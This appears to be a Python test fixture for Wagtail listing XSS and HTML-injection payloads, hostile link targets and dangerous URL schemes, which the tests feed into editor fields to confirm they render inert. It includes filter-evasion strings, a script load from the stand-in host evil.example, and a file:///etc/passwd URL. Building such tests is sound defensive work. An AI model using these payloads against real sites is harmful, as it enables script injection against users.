"""Hostile input: XSS and HTML-injection payloads an editor (or a stolen editor account) might
type into any text field, and hostile link targets for any URL field.

Sources: the OWASP XSS filter evasion cheat sheet, html5sec.org, and Wagtail's own advisories.
Every payload is text an editor can type; the tests enter each one into every editor-controlled
field and assert the result is rendered inert or rejected with a validation error.
"""

LONG = "A" * 5000

PAYLOADS = [
    # Script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<script/src=data:,alert(1)></script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert('xss')\">",
    '<IMG SRC=# onmouseover="alert(1)">',
    "<body onload=alert(1)>",
    "<div onpointerover=alert(1)>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<a onmouseover=alert(1)>link</a>",
    # javascript:/data:/vbscript: links, plain and obfuscated
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="jav&#x0A;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Attribute breaking
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus="alert(1)" x="',
    "`onmouseover=alert(1)",
    # CSS
    '<div style="background:url(javascript:alert(1))">css</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="width: expression(alert(1));">ie</div>',
    # Unicode / RTL tricks, homoglyphs, zero-width characters
    "\u202egnp.exe\u202c harmless-looking",
    "admin\u200b@example.org",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "caf\u00e9 \U0001f600 \u0645\u0631\u062d\u0628\u0627",
    # Template syntax (must be shown, never evaluated)
    "{{ request.user.password }}",
    "{% debug %}",
    "{{ 7|add:7 }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    # Comments, CDATA, entities
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # Control characters and null bytes
    "null\x00byte<script>alert(1)</script>",
    "vertical\x0btab and escape\x1b[31m",
    # Very long strings
    LONG,
    "<img src=x onerror=alert(1)>" + "B" * 3000,
]

# Link targets that must never become a followable href.
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "jav\tascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "java\x00script:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "ftp://files.example.org/report.pdf",
    "file:///etc/passwd",
    'http://example.org/"><script>alert(1)</script>',
    "https://example.org/' onmouseover='alert(1)",
]

# Schemes a browser would run or that leave the web: none may appear in a rendered href/src.
DANGEROUS_SCHEMES = ("javascript", "data", "vbscript", "file")
